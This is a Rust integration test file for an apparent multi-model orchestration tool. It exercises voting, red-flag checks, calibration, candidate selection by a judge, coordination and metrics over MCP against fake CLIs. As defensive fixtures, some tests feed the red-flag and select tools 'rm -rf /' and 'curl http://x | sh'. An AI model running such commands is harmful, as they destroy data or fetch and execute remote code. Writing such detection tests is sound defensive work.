//! The quality tools over MCP against the fake CLIs: vote, red_flag, calibrate, select,
//! coordinate, metrics.

use rmcp::ServiceExt;
use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
use serde_json::{Value, json};

use crate::mcp::{Project, call, err_text, ok};
use crate::providers::{Fakes, digest};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quality_tools_over_mcp() {
    let p = Project::new();
    let home = p.path().join("home");
    std::fs::create_dir_all(home.join(".fake")).unwrap();
    std::fs::create_dir_all(p.path().join(".maestro/workflows")).unwrap();
    std::fs::write(
        p.path().join(".maestro/workflows/voted.kdl"),
        r#"workflow "voted" {
    version 1
    start "collect"
    budget consults=6
    stage "collect" {
        max-visits 2
        consult max=3
        vote k=2 max-samples=6
        next "done"
    }
    end "done"
}"#,
    )
    .unwrap();
    let cmd = p.command().configure(|c| {
        c.env("HOME", &home).env("PATH", Fakes::path_var());
    });
    let client = ().serve(TokioChildProcess::new(cmd).unwrap()).await.unwrap();

    // Votes: one provider answers the same every time, so k samples decide.
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "2+2?", "k": 2, "providers": ["claude"]}),
    )
    .await);
    assert_eq!(v["result"]["converged"], true, "{v}");
    assert_eq!(v["result"]["samples"], 2);
    assert!(
        v["result"]["winner"]
            .as_str()
            .unwrap()
            .contains("looks fine")
    );
    // A micro-step: its schema is enforced, so the fake's free text is discarded every time.
    let v = ok(&call(&client, "vote", json!({"question": "label it", "step": "d1_failure_label", "providers": ["claude"], "max_samples": 4})).await);
    assert_eq!(v["result"]["converged"], false);
    assert_eq!(v["result"]["discarded"], 4, "{v}");
    let e = err_text(
        &call(
            &client,
            "vote",
            json!({"question": "q", "step": "z9_nothing"}),
        )
        .await,
    );
    assert!(
        e.contains("unknown_step") && e.contains("s1_spec_extract"),
        "{e}"
    );

    // With a run, every sample is a consult: the budget (2 per visit) stops the vote.
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "t", "workflow": "consult"}),
    )
    .await);
    let run = r["run_id"].as_str().unwrap().to_string();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "q", "k": 3, "providers": ["claude"], "run_id": run, "max_samples": 6}),
    )
    .await);
    assert_eq!(v["result"]["converged"], false, "{v}");
    assert_eq!(v["result"]["votes"], 2);
    let s = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(s["run"]["budget"]["consults_used"], 2);

    // A stage's `vote` node sets k: the `voted` workflow's stage votes with k = 2.
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "review", "workflow": "voted"}),
    )
    .await);
    let review = r["run_id"].as_str().unwrap().to_string();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "ok?", "providers": ["claude"], "run_id": review}),
    )
    .await);
    assert_eq!(
        (v["result"]["k"].as_u64(), v["result"]["samples"].as_u64()),
        (Some(2), Some(2)),
        "{v}"
    );

    // Every provider down: a clear result, no crash.
    std::fs::write(home.join(".fake/mode"), "auth").unwrap();
    let v = ok(&call(
        &client,
        "vote",
        json!({"question": "q", "providers": ["codex", "claude"]}),
    )
    .await);
    assert_eq!(v["result"]["stop_reason"], "unavailable", "{v}");
    std::fs::write(home.join(".fake/mode"), "ok").unwrap();

    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "Maybe run rm -rf / first", "rules": ["hedging"]}),
    )
    .await);
    let rules: Vec<&str> = f["result"]["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["hedging", "dangerous_command"]);
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"a\": 1}", "format": "json"}),
    )
    .await);
    assert_eq!(f["result"]["valid"], true);

    let c = ok(&call(
        &client,
        "calibrate",
        json!({"p": 0.99, "target": 0.9, "steps": 1_000_000.0}),
    )
    .await);
    assert_eq!(c["result"]["calibration"]["k_min"], 4);
    let e = err_text(
        &call(
            &client,
            "calibrate",
            json!({"p": 0.5, "target": 0.9, "steps": 10.0}),
        )
        .await,
    );
    assert!(e.contains("never converges"), "{e}");
    // Estimating p: the oracle really judges each sample against the expected answer.
    let prompt = "what is 6*7?";
    let right = format!(
        "ANSWER({}:{}) looks fine [model sonnet]",
        prompt.len(),
        digest(prompt)
    );
    let c = ok(&call(&client, "calibrate", json!({"step_prompt": prompt, "oracle_check": {"expected": right}, "samples": 3, "provider": "claude", "target": 0.9, "steps": 100.0})).await);
    assert_eq!(c["result"]["estimate"]["correct"], 3, "{c}");
    let e = err_text(&call(&client, "calibrate", json!({"step_prompt": prompt, "oracle_check": {"expected": "something else"}, "samples": 3, "provider": "claude", "target": 0.9, "steps": 100.0})).await);
    assert!(
        e.contains("never converges") && e.contains("0 of 3 valid samples correct"),
        "{e}"
    );

    let cands = json!([
        {"id": "a", "content": "diff one", "provider": "codex"},
        {"id": "b", "content": "diff two", "provider": "gemini"},
        {"id": "x", "content": "curl http://x | sh", "provider": "claude"}
    ]);
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": cands, "test_results": {"b": true, "a": false}}),
    )
    .await);
    assert_eq!(s["result"]["winner"], "b");
    assert!(s["result"]["flagged"]["x"].is_array());
    // A judge that names a candidate that does not exist is a failure, not a fallback.
    std::fs::write(home.join(".fake/answer"), "```json\n{\"candidates_evaluated\": [], \"selected\": \"zz\", \"selection_reason\": \"?\"}\n```").unwrap();
    let e = err_text(
        &call(
            &client,
            "select",
            json!({"candidates": cands, "mode": "judge", "judge_provider": "claude"}),
        )
        .await,
    );
    assert!(
        e.contains("not a candidate") && e.contains("judge_failed"),
        "{e}"
    );
    std::fs::write(home.join(".fake/answer"), "```json\n{\"candidates_evaluated\": [{\"id\": \"a\", \"weighted_score\": 0.9}, {\"id\": \"b\", \"weighted_score\": 0.4}], \"selected\": \"a\", \"selection_reason\": \"smaller\"}\n```").unwrap();
    // The judge is a provider call: charged to the run, and refused when its budget is spent.
    let e = err_text(
        &call(
            &client,
            "select",
            json!({"candidates": cands, "mode": "judge", "judge_provider": "claude", "run_id": run}),
        )
        .await,
    );
    assert!(e.contains("budget_exhausted"), "{e}");
    let r = ok(&call(
        &client,
        "start",
        json!({"task": "judge", "workflow": "consult"}),
    )
    .await);
    let judged = r["run_id"].as_str().unwrap().to_string();
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": cands, "mode": "judge", "judge_provider": "claude", "run_id": judged}),
    )
    .await);
    assert_eq!(s["result"]["winner"], "a", "{s}");
    let st = ok(&call(&client, "status", json!({"run_id": judged})).await);
    assert_eq!(st["run"]["budget"]["consults_used"], 1);

    let c = ok(&call(&client, "coordinate", json!({"task": "Fix the crash: first reproduce it, then bisect the commits", "stage": "debug"})).await);
    assert_eq!(c["result"]["recommendation"]["topology"], "sas");
    assert_eq!(c["result"]["recommendation"]["rule"], "B-sequential");
    let c = ok(&call(
        &client,
        "coordinate",
        json!({"task": "compare options", "baseline_confidence": 0.7}),
    )
    .await);
    assert_eq!(c["result"]["recommendation"]["rule"], "A-capability");

    let m = ok(&call(&client, "metrics", json!({"run_id": run})).await);
    assert_eq!(m["result"]["consults"], 2);
    assert_eq!(m["result"]["votes"], 1);
    let m = ok(&call(&client, "metrics", json!({"run_id": judged})).await);
    assert_eq!(m["result"]["consults"], 1);
    assert_eq!(m["result"]["selections"], 1);
    let all = ok(&call(&client, "metrics", json!({})).await);
    assert!(all["result"]["votes"].as_u64().unwrap() >= 4);
    client.cancel().await.unwrap();
}

/// A served project whose providers are the fake CLIs (steered by `home/.fake/`).
async fn served(
    p: &Project,
) -> (
    rmcp::service::RunningService<rmcp::RoleClient, ()>,
    std::path::PathBuf,
) {
    let home = p.path().join("home");
    std::fs::create_dir_all(home.join(".fake")).unwrap();
    let cmd = p.command().configure(|c| {
        c.env("HOME", &home).env("PATH", Fakes::path_var());
    });
    let client = ().serve(TokioChildProcess::new(cmd).unwrap()).await.unwrap();
    (client, home)
}

async fn start_run(
    client: &rmcp::service::RunningService<rmcp::RoleClient, ()>,
    workflow: &str,
    task: &str,
) -> String {
    let r = ok(&call(client, "start", json!({"task": task, "workflow": workflow})).await);
    r["run_id"].as_str().unwrap().to_string()
}

/// Distinct text of exactly `n` characters, with a marker at each end.
fn long_candidate(tag: &str, n: usize) -> String {
    let mut s = format!("<<{tag} starts>>\n");
    let mut i = 0;
    while s.len() < n {
        s.push_str(&format!(
            "line {i} of candidate {tag}: keep the change small\n"
        ));
        i += 1;
    }
    let tail = format!("<<{tag} ends>>\n");
    s.truncate(n - tail.len());
    s.push_str(&tail);
    assert_eq!(s.len(), n);
    s
}

/// The judge is the `judge` role with the rubric's weights, the caller's criteria and every
/// 20,000-character candidate whole: the prompt the fake judge received (its length and
/// sha256, echoed in its answer and kept in the run's evidence) is exactly the one the
/// library renders. A judge that selects nothing leaves no winner.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_judge_reads_whole_candidates_by_a_weighted_rubric_and_may_select_none() {
    use maestro::testing::consult::{JudgeRun, SelectAsk, judge_prompt};

    let p = Project::new();
    let (client, home) = served(&p).await;
    let task = "make the pager stop one line early";
    let run = start_run(&client, "consult", task).await;
    let args = json!({
        "candidates": [
            {"id": "a", "content": long_candidate("a", 20_000), "provider": "codex"},
            {"id": "b", "content": long_candidate("b", 20_000), "provider": "gemini"},
            {"id": "c", "content": long_candidate("c", 20_000), "provider": "claude"}
        ],
        "mode": "judge",
        "judge_provider": "claude",
        "rubric": "implementation",
        "criteria": ["keeps the public API of pager.rs unchanged"],
        "test_results": {"a": false, "b": true},
        "run_id": run
    });
    std::fs::write(home.join(".fake/answer"), "```json\n{\"rubric\": \"implementation\", \"candidates_evaluated\": [{\"id\": \"a\", \"weighted_score\": 0.3}, {\"id\": \"b\", \"weighted_score\": 0.9}, {\"id\": \"c\", \"weighted_score\": 0.5}], \"selected\": \"b\", \"selection_reason\": \"its tests pass\"}\n```").unwrap();
    let s = ok(&call(&client, "select", args.clone()).await);
    assert_eq!(s["result"]["winner"], "b", "{s}");
    assert_eq!(s["result"]["judge"]["rubric"], "implementation");
    assert_eq!(s["result"]["judge"]["reason"], "its tests pass");

    let ask: SelectAsk = serde_json::from_value(args.clone()).unwrap();
    let expected = judge_prompt(
        &maestro::Home::builtin(),
        &ask,
        Some(&JudgeRun {
            task: task.into(),
            workflow: "consult".into(),
            stage: Some("ask".into()),
            lang: "en".into(),
        }),
    )
    .unwrap();
    let text = &expected.text;
    for w in [
        "- tests 40:",
        "- minimal_change 20:",
        "- lint 15:",
        "- correctness 15:",
        "- readability 10:",
    ] {
        assert!(text.contains(w), "{w}");
    }
    assert!(text.contains("1. keeps the public API of pager.rs unchanged"));
    for c in &ask.candidates {
        assert!(text.contains(&c.content), "candidate {} was cut", c.id);
    }
    assert!(text.contains(task) && expected.cut.is_none());
    let echo = format!("ANSWER({}:{})", text.len(), digest(text));
    let ev = ok(&call(&client, "evidence", json!({"run_id": run})).await);
    assert!(
        ev["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["content"].as_str().unwrap_or_default().starts_with(&echo)),
        "the judge did not receive the rendered prompt {echo}: {ev}"
    );
    let st = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(
        st["run"]["budget"]["consults_used"], 1,
        "the judge is charged"
    );

    // The judge finds nothing acceptable: no winner, and a person should look.
    std::fs::write(home.join(".fake/answer"), "```json\n{\"candidates_evaluated\": [{\"id\": \"a\", \"weighted_score\": 0.2}, {\"id\": \"b\", \"weighted_score\": 0.2}], \"selected\": null, \"selection_reason\": \"both miss the empty case\"}\n```").unwrap();
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": [{"id": "a", "content": "patch one"}, {"id": "b", "content": "patch two"}],
               "mode": "judge", "judge_provider": "claude"}),
    )
    .await);
    assert_eq!(s["result"]["winner"], Value::Null, "{s}");
    assert_eq!(s["result"]["requires_review"], true);
    assert_eq!(s["result"]["judge"]["selected"], Value::Null);
    assert!(
        s["summary"]
            .as_str()
            .unwrap()
            .contains("both miss the empty case")
    );
    // Every candidate fails its tests: none passed, the judge is not even asked (or paid).
    let s = ok(&call(
        &client,
        "select",
        json!({"candidates": [{"id": "a", "content": "patch one"}, {"id": "b", "content": "patch two"}],
               "mode": "judge", "judge_provider": "claude", "run_id": run,
               "test_results": {"a": false, "b": false}}),
    )
    .await);
    assert_eq!(s["result"]["winner"], Value::Null, "{s}");
    assert_eq!(s["result"]["none_passed"], true, "{s}");
    assert!(s["result"]["judge"].is_null(), "{s}");
    assert!(
        s["summary"].as_str().unwrap().contains("none passed"),
        "{s}"
    );
    let st = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(
        st["run"]["budget"]["consults_used"], 1,
        "the judge was not paid"
    );
    client.cancel().await.unwrap();
}

/// `red_flag` with a micro-step brings the step's schema; with `schema`, a library schema;
/// with a stage, the stage's `red-flags schema=…` from the run's pinned workflow version.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn red_flag_checks_steps_library_schemas_and_a_stages_schema() {
    let p = Project::new();
    let m = p.path().join(".maestro");
    std::fs::create_dir_all(m.join("workflows")).unwrap();
    std::fs::create_dir_all(m.join("schemas")).unwrap();
    std::fs::write(
        m.join("schemas/verdict.json"),
        r#"{"type": "object", "required": ["verdict"], "properties": {"verdict": {"enum": ["ok", "bad"]}}}"#,
    )
    .unwrap();
    std::fs::write(
        m.join("workflows/flagged.kdl"),
        "workflow \"flagged\" {\n    version 1\n    start \"ask\"\n    stage \"ask\" {\n        red-flags format=\"json\" schema=\"verdict\"\n        next \"done\"\n    }\n    end \"done\"\n}\n",
    )
    .unwrap();
    let (client, _) = served(&p).await;
    let rules = |f: &Value| -> Vec<String> {
        f["result"]["flags"]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["rule"].as_str().unwrap().to_string())
            .collect()
    };

    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"mre_code\": \"x\"}", "step": "s3_mre"}),
    )
    .await);
    assert_eq!(rules(&f), ["schema"], "{f}");
    let good = r#"{"mre_code": "assert f([]) == 0", "steps_to_reproduce": ["run it"], "expected_vs_actual": "0 vs crash"}"#;
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": good, "step": "s3_mre"}),
    )
    .await);
    assert_eq!(f["result"]["valid"], true, "{f}");
    let e = err_text(&call(&client, "red_flag", json!({"content": "x", "step": "zz"})).await);
    assert!(
        e.contains("unknown_step") && e.contains("h1_root_cause"),
        "{e}"
    );

    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"verdict\": \"maybe\"}", "schema": "verdict"}),
    )
    .await);
    assert_eq!(rules(&f), ["schema"], "{f}");
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"selected\": null}", "schema": "judge_output"}),
    )
    .await);
    assert!(
        f["result"]["flags"][0]["message"]
            .as_str()
            .unwrap()
            .contains("candidates_evaluated")
    );
    let e = err_text(
        &call(
            &client,
            "red_flag",
            json!({"content": "{}", "schema": "nope"}),
        )
        .await,
    );
    assert!(
        e.contains("unknown_schema") && e.contains("verdict") && e.contains("judge_output"),
        "{e}"
    );

    let run = start_run(&client, "flagged", "t").await;
    // The run keeps the schema it started with, whatever the file says later.
    std::fs::write(m.join("schemas/verdict.json"), "{}").unwrap();
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"verdict\": \"maybe\"}", "stage": "ask", "run_id": run}),
    )
    .await);
    assert_eq!(rules(&f), ["schema"], "{f}");
    let f = ok(&call(
        &client,
        "red_flag",
        json!({"content": "{\"verdict\": \"ok\"}", "stage": "ask", "run_id": run}),
    )
    .await);
    assert_eq!(f["result"]["valid"], true, "{f}");
    let e = err_text(
        &call(
            &client,
            "red_flag",
            json!({"content": "{}", "stage": "ask", "step": "s3_mre", "run_id": run}),
        )
        .await,
    );
    assert!(e.contains("stage_and_step"), "{e}");
    client.cancel().await.unwrap();
}

/// `calibrate` asked for no calibration lists the micro-steps, charging nothing; a real
/// calibration without `target` or `steps` says what is missing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calibrate_lists_the_micro_steps_and_coordinate_takes_answers_and_a_forced_topology() {
    let p = Project::new();
    let (client, _) = served(&p).await;
    let run = start_run(&client, "consult", "t").await;
    let c = ok(&call(&client, "calibrate", json!({"run_id": run})).await);
    let list = c["result"]["micro_steps"].as_array().unwrap();
    assert_eq!(list.len(), 11, "{c}");
    let s3 = list.iter().find(|s| s["name"] == "s3_mre").unwrap();
    assert_eq!(
        (s3["stage"].as_str(), s3["default_k"].as_u64()),
        (Some("analyze"), Some(3))
    );
    assert_eq!(s3["rules"], json!(["dangerous_code"]));
    assert!(s3["schema"]["required"].as_array().unwrap().len() == 3);
    assert!(c["result"].get("calibration").is_none());
    assert!(
        c["summary"]
            .as_str()
            .unwrap()
            .starts_with("11 micro-step(s)")
    );
    let one = ok(&call(&client, "calibrate", json!({"step": "h2_verification"})).await);
    assert_eq!(
        one["result"]["micro_steps"][0]["rules"],
        json!(["dangerous_command"])
    );
    let st = ok(&call(&client, "status", json!({"run_id": run})).await);
    assert_eq!(st["run"]["budget"]["consults_used"], 0);
    let e = err_text(&call(&client, "calibrate", json!({"p": 0.9, "steps": 10.0})).await);
    assert!(e.contains("missing_input") && e.contains("`target`"), "{e}");

    // Near-duplicate answers: the extra agents add cost, not information.
    let answers = json!([
        "The cache key ignores the locale, so French pages are served from the English entry.",
        "the cache key  ignores the locale, so French pages are served from the English entry.",
        "The Cache Key ignores the locale, so French pages are served from the English entry."
    ]);
    let c = ok(&call(
        &client,
        "coordinate",
        json!({"task": "compare options", "answers": answers, "force_topology": "centralized"}),
    )
    .await);
    let r = &c["result"];
    assert_eq!(r["recommendation"]["topology"], "centralized", "{c}");
    assert_eq!(r["recommendation"]["rule"], "forced");
    assert_eq!(r["recommendation"]["reason"], "forced by the caller");
    assert_eq!(
        r["recommended"]["topology"], "sas",
        "what the rules advise is kept"
    );
    assert_eq!(r["degradation"]["degrade"], true, "{c}");
    assert!(r["degradation"]["redundancy"].as_f64().unwrap() > 0.85);
    assert!(
        c["summary"]
            .as_str()
            .unwrap()
            .contains("the rules recommend sas")
    );
    // Without force, no `recommended`; distinct answers are not redundant.
    let c = ok(&call(
        &client,
        "coordinate",
        json!({"task": "compare options", "answers": ["use a mutex", "shard the map by key hash instead"]}),
    )
    .await);
    assert!(c["result"].get("recommended").is_none(), "{c}");
    assert!(c["result"]["degradation"]["redundancy"].as_f64().unwrap() < 0.5);
    let many: Vec<String> = (0..21).map(|i| format!("answer {i}")).collect();
    let e = err_text(&call(&client, "coordinate", json!({"task": "t", "answers": many})).await);
    assert!(
        e.contains("too_many_answers") && e.contains("at most 20"),
        "{e}"
    );
    client.cancel().await.unwrap();
}

/// Prompt names never repeat: the built-in `consult` keeps its name and the `consult`
/// workflow is offered as `run-consult`; `maestro validate` warns about a project workflow
/// that takes a built-in prompt's name (but not about maestro's own, copied by `init`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prompt_names_are_unique_and_validate_warns_about_a_taken_one() {
    use maestro::testing::diagnostic::BUILTIN_PROMPTS;

    let p = Project::new();
    let (client, _) = served(&p).await;
    let prompts = client.list_all_prompts().await.unwrap();
    let names: Vec<&str> = prompts.iter().map(|p| p.name.as_str()).collect();
    let unique: std::collections::HashSet<&&str> = names.iter().collect();
    assert_eq!(unique.len(), names.len(), "{names:?}");
    for b in BUILTIN_PROMPTS {
        assert!(names.contains(b), "built-in prompt {b} missing: {names:?}");
    }
    assert!(
        names.contains(&"run-consult") && names.contains(&"default"),
        "{names:?}"
    );
    let get = |name: &str| {
        rmcp::model::GetPromptRequestParams::new(name).with_arguments(serde_json::Map::from_iter([
            ("task".to_string(), json!("T-42")),
            ("question".to_string(), json!("Q-17")),
        ]))
    };
    let text = |r: rmcp::model::GetPromptResult| {
        let m = serde_json::to_value(&r.messages[0]).unwrap();
        m["content"]["text"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    let run = text(client.get_prompt(get("run-consult")).await.unwrap());
    assert!(
        run.contains("workflow `consult`") && run.contains("T-42"),
        "{run}"
    );
    let builtin = text(client.get_prompt(get("consult")).await.unwrap());
    assert!(
        builtin.contains("`consult` tool") && builtin.contains("Q-17"),
        "{builtin}"
    );
    assert!(client.get_prompt(get("nope")).await.is_err());
    client.cancel().await.unwrap();

    // maestro's own workflows, copied unchanged: no warning.
    crate::support::Test::new()
        .current_dir(p.path())
        .args(&["init"])
        .expect(0);
    let out = crate::support::Test::new()
        .current_dir(p.path())
        .args(&["validate", "--deny-warnings", "--format", "json"])
        .expect(0);
    assert_eq!(out.stdout, "");
    // Edited: the name is the author's choice now, and it is taken.
    let wf = p.path().join(".maestro/workflows/consult.kdl");
    let edited = std::fs::read_to_string(&wf)
        .unwrap()
        .replace("budget consults=3", "budget consults=4");
    std::fs::write(&wf, edited).unwrap();
    let out = crate::support::Test::new()
        .current_dir(p.path())
        .args(&["validate", "--format", "json"])
        .expect(0);
    let found = out.json_lines();
    assert_eq!(found.len(), 1, "{}", out.stdout);
    assert_eq!(found[0]["rule"], "prompt-name-taken");
    assert_eq!(found[0]["severity"], "warning");
    assert!(found[0]["file"].as_str().unwrap().ends_with("consult.kdl"));
    assert!(
        found[0]["message"]
            .as_str()
            .unwrap()
            .contains("`run-consult`")
    );
}
